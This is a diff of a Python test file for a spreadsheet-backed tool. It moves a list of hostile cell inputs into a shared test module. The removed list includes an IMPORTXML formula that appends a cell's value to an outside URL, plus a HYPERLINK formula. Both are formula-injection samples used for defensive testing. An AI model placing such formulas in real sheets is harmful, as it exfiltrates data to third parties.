@@ -11,6 +11,7 @@ from netbook.backends.google_sheets.tab_requests import PROTECTED
 from netbook.errors import NetbookError
 from netbook.jobs.history import run_to_undo, undoing
 from netbook.jobs.resolve import Answer, conflict_named, decision
+from tests.hostile import HOSTILE
 from tests.jobs.behaviours.partners import START
 from tests.live.assumptions import Notes
 from tests.live.desk import LOCKED, Desk, Office
@@ -18,24 +19,6 @@ from tests.live.desk import LOCKED, Desk, Office
 Scenario = Callable[[Desk, Notes], None]
 
 COMPUTED = ["Allocations", "Balances", "Ledger", "netbook"]
-HOSTILE = [
-    '=IMPORTXML("https://example.org/?"&A1,"//a")',
-    "=1+1",
-    "+1",
-    "-2",
-    "@x",
-    "00420",
-    "2026-01-02",
-    "1/2",
-    "TRUE",
-    "'quoted",
-    "12 %",
-    "1e5",
-    "1,5",
-    "#REF!",
-    "日本 😀",
-    '=HYPERLINK("https://example.org","click")',
-]
 
 
 def in_step(desk: Desk, name: str = "network") -> Office:
